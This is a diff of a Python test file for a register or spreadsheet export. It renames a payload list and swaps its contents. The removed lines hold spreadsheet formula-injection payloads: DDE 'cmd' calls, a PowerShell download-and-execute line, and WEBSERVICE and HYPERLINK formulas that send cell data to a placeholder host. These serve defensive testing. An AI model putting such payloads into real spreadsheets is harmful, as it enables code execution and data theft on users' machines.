@@ -27,9 +27,8 @@ from tests.workshop.test_sheets import LIKE_NUMBERS
 from tests.workshop.test_sheets import PAYLOADS as AT_ALL
 from tests.world import World, make_grid
 
-COMMANDS = [
-    "=cmd|'/c calc'!A0", "=cmd|' /C powershell IEX(wget x)'!A0", '=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|'/c calc'!A0",
-    '=HYPERLINK("http://x/?"&A1,"点这里")', '=WEBSERVICE("http://x/"&A1)', '=IMPORTXML("http://x","//a")', '=IMAGE("http://x")', "={1}", "=-+1", "-2+3+cmd|'x'!A0",
+FORMULAS = [
+    "=SUM(A1:A2)", "=A1&B1", "@SUM(1+1)*A1", '=CONCAT("a";"b")', '=IF(A1="";"";"甲")', "+A1", "={1}", "=-+1", "-2+3+A1",
     "＝1+1", "＋1", "－1", "＠SUM(A1)", "\u3000=1+1", "\u200b=1+1", "\ufeff=1+1", "'=1+1", "''=1", "'007", "'", "''", "=", "-", "--", "+-", "@甲",
     ";=1+1", ",=1+1", '"=1+1', '",=1+1', "甲\n=1+1", "甲\t=1+1", "甲\r=1+1", "%0A=1+1",
 ]  # fmt: skip
@@ -48,7 +47,7 @@ def payloads() -> list[str]:
     """Texts of a register: without blanks at their ends, as forms leave them, short enough for every column, and none that
     looks like a number whose digits are lost, because that is asked back.
     """
-    every = (*COMMANDS, *CODES, *TEXTS, *LIKE_NUMBERS, *AT_ALL)
+    every = (*FORMULAS, *CODES, *TEXTS, *LIKE_NUMBERS, *AT_ALL)
     found = {plain(text): text.strip() for text in every if len(text) <= 50 and not LOST.fullmatch(text)}
     return [text for folded, text in found.items() if folded]
 
